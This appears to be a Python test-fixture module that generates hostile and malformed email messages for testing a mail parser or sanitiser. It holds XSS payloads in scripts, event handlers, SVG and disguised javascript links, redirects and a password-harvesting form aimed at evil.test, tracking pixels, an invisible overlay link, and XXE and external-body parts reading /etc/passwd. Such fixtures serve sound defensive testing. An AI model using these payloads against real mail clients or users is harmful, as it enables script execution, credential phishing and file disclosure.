"""Nasty messages: hostile HTML and special contents."""

from __future__ import annotations

from .nasty_parts import Cases, Frame, encoded, joined, part

CASES = Cases()
_PLAIN = part("text/plain; charset=utf-8", b"The answer.")
_CALENDAR = (
    b"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1\r\n"
    b"DTSTART:20250310T110000Z\r\nSUMMARY:Meeting\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
)


@CASES.add
def script(f: Frame) -> bytes:
    """Scripts, also in event handlers and SVG."""
    return f.html(
        "<p>The answer.</p><script>alert(1)</script><img src=x onerror=alert(2)>"
        "<svg onload=alert(3)><script href='data:,alert(4)'/></svg><ScRiPt >alert(5)"
    )


@CASES.add
def javascript_links(f: Frame) -> bytes:
    """Links that run scripts, in disguises."""
    return f.html(
        '<a href="javascript:alert(1)">a</a><a href=" java&#10;script:alert(2)">b</a>'
        '<a href="data:text/html;base64,PHNjcmlwdD4=">c</a><a href="vbscript:x">d</a>'
        "<form action=javascript:alert(3)><button formaction=javascript:alert(4)>e"
    )


@CASES.add
def meta_refresh(f: Frame) -> bytes:
    """A redirect and a base address for every link."""
    return f.html(
        '<html><head><meta http-equiv="refresh" content="0;url=http://evil.test/">'
        '<base href="http://evil.test/"></head><body>The answer.</body></html>'
    )


@CASES.add
def css_cover(f: Frame) -> bytes:
    """Styles that lay a link over the whole screen and load from elsewhere."""
    return f.html(
        "<style>@import url(http://evil.test/a.css); body{display:none!important}"
        "</style><a href='http://evil.test' style='position:fixed;top:0;left:0;"
        "width:100vw;height:100vh;z-index:99999;opacity:0'>x</a>"
        "<div style=\"background:url('http://evil.test/t')\">The answer.</div>"
    )


@CASES.add
def tracking_pixel(f: Frame) -> bytes:
    """Pictures that tell when the mail is read."""
    return f.html(
        '<p>The answer.</p><img src="http://evil.test/t.gif" width=1 height=1>'
        '<img srcset="http://evil.test/2x 2x"><video poster="http://evil.test/p">'
    )


@CASES.add
def unclosed_comment(f: Frame) -> bytes:
    """A comment and tags that are never closed."""
    return f.html("<p>The answer.<!-- <b><table><tr><td><div title='")


@CASES.add
def conditional_comments(f: Frame) -> bytes:
    """Outlook's conditional comments and namespaced tags."""
    return f.html(
        "<!--[if mso]><o:p><script>alert(1)</script></o:p><![endif]-->"
        "<![if !vml]><o:p>The answer.</o:p><![endif]><?xml:namespace prefix=o />"
    )


@CASES.add
def frames_and_forms(f: Frame) -> bytes:
    """Frames, objects, and a form that asks for a password."""
    return f.html(
        "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object>"
        "<embed src=x><form action=http://evil.test><input name=password></form>ok"
    )


@CASES.add
def html_nested_10000(f: Frame) -> bytes:
    """10,000 tags inside of each other: recursion."""
    return f.html("<div>" * 10_000 + "The answer.")


@CASES.add
def html_attributes_20000(f: Frame) -> bytes:
    """A tag with 20,000 attributes."""
    return f.html("<p " + " ".join(f"a{n}=1" for n in range(20_000)) + ">The answer.")


@CASES.add
def html_entities(f: Frame) -> bytes:
    """Entities that are no characters, NUL and half surrogates among them."""
    return f.html("<p>&#0; &#xD800; &#x110000; &#99999999999; &bogus; &amp;amp;</p>")


@CASES.add
def html_says_other_charset(f: Frame) -> bytes:
    """HTML whose meta element contradicts the header."""
    return f.html('<meta charset="utf-16"><p>Відповідь</p>')


@CASES.add
def html_empty(f: Frame) -> bytes:
    """An HTML part that is empty beside an empty plain one."""
    return f.multipart(
        part("text/plain", b""), part("text/html", b""), kind="alternative"
    )


@CASES.add
def html_with_xml_declaration(f: Frame) -> bytes:
    """XHTML with a declaration, a DTD and entities that grow."""
    return f.html(
        '<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE html [<!ENTITY a "aaaa">'
        '<!ENTITY b "&a;&a;&a;&a;"><!ENTITY x SYSTEM "file:///etc/passwd">]>'
        "<html><body>&b;&x; The answer.</body></html>"
    )


@CASES.add
def winmail_dat(f: Frame) -> bytes:
    """Outlook's winmail.dat, cut off after its signature."""
    name = ("Content-Disposition", 'attachment; filename="winmail.dat"')
    data = encoded(b"\x78\x9f\x3e\x22\x01\x00\x01\x06\x90\x08")
    how = ("Content-Transfer-Encoding", "base64")
    return f.multipart(_PLAIN, part("application/ms-tnef", data, name, how))


@CASES.add
def smime_signed(f: Frame) -> bytes:
    """An S/MIME signature that is none."""
    signature = part('application/pkcs7-signature; name="smime.p7s"', encoded(b"0\x80"))
    return f.multipart(_PLAIN, signature, kind="signed; micalg=sha-256")


@CASES.add
def smime_encrypted(f: Frame) -> bytes:
    """A mail that is encrypted as a whole."""
    return f.message(
        encoded(b"0\x80\x06\x09\x2a\x86\x48" * 40),
        Content_Type='application/pkcs7-mime; name="smime.p7m"',
        Content_Transfer_Encoding="base64",
    )


@CASES.add
def pgp_encrypted(f: Frame) -> bytes:
    """PGP/MIME, and no text anywhere."""
    return f.multipart(
        part("application/pgp-encrypted", b"Version: 1\r\n"),
        part("application/octet-stream", b"-----BEGIN PGP MESSAGE-----\r\n\r\nx\r\n"),
        kind="encrypted; protocol=application/pgp-encrypted",
    )


@CASES.add
def pgp_inline(f: Frame) -> bytes:
    """Inline PGP with dash-escaped lines."""
    return f.text(
        b"-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA256\r\n\r\n"
        b"- -- The answer.\r\n"
        b"-----BEGIN PGP SIGNATURE-----\r\n\r\nx\r\n-----END PGP SIGNATURE-----\r\n"
    )


@CASES.add
def calendar_request(f: Frame) -> bytes:
    """An invitation as third alternative and as a file."""
    inner = joined(
        (_PLAIN, part("text/calendar; method=REQUEST; charset=utf-8", _CALENDAR)), "cal"
    )
    name = ("Content-Disposition", 'attachment; filename="invite.ics"')
    return f.multipart(
        part('multipart/alternative; boundary="cal"', inner),
        part("application/ics", _CALENDAR, name),
    )


@CASES.add
def calendar_only(f: Frame) -> bytes:
    """An answer to an invitation without any text."""
    return f.message(_CALENDAR, Content_Type="text/calendar; method=REPLY")


@CASES.add
def image_only(f: Frame) -> bytes:
    """A mail that is a picture, from a scanner."""
    return f.message(
        b"iVBORw0KGgo=\r\n",
        Content_Type='image/png; name="scan.png"',
        Content_Transfer_Encoding="base64",
    )


@CASES.add
def delivery_report_attached(f: Frame) -> bytes:
    """A person who forwards a delivery report: no report itself."""
    status = part(
        "message/delivery-status", b"Final-Recipient: rfc822; x@y.test\r\n\r\n"
    )
    inner = part('multipart/report; boundary="r"', joined((_PLAIN, status), "r"))
    return f.multipart(_PLAIN, part("message/rfc822", inner))


@CASES.add
def external_body(f: Frame) -> bytes:
    """A part that lies elsewhere, on the server's own disk."""
    kind = 'message/external-body; access-type=local-file; name="/etc/passwd"'
    return f.multipart(_PLAIN, part(kind, b"Content-Type: text/plain\r\n\r\n"))


@CASES.add
def partial_message(f: Frame) -> bytes:
    """The second of three pieces of a message (RFC 2046, 5.2.2)."""
    kind = 'message/partial; id="x@customer.test"; number=2; total=3'
    return f.message(b"the middle of something\r\n", Content_Type=kind)


@CASES.add
def quoted_history_2mb(f: Frame) -> bytes:
    """Two megabytes of quoted history, 200 levels deep."""
    lines = b"".join(b">" * (n % 200) + b" old text\r\n" for n in range(18_000))
    return f.text(b"The answer.\r\n\r\n" + lines)
